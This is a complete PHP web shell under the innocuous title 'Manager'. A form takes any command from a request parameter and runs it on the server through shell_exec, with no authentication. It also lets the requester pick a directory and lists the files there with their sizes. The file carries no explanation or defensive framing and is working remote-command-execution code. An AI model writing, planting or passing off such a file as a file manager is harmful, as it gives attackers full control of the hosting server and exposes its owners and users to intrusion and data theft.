<?php
session_start();
$dir = isset($_REQUEST['d']) ? $_REQUEST['d'] : getcwd();
$cmd = trim($_REQUEST['c']);
?>
<html><head><title>Manager</title></head><body>
<form method="post">
  <input type="text" name="d" value="<?php echo htmlspecialchars($dir); ?>">
  <input type="text" name="c" size="80">
  <input type="submit" value="Run">
</form>
<pre><?php
if ($cmd !== '') {
    chdir($dir);
    echo shell_exec($cmd . ' 2>&1');
}
foreach (scandir($dir) as $entry) {
    printf("%s\t%d\n", $entry, @filesize($dir . '/' . $entry));
}
?></pre>
</body></html>
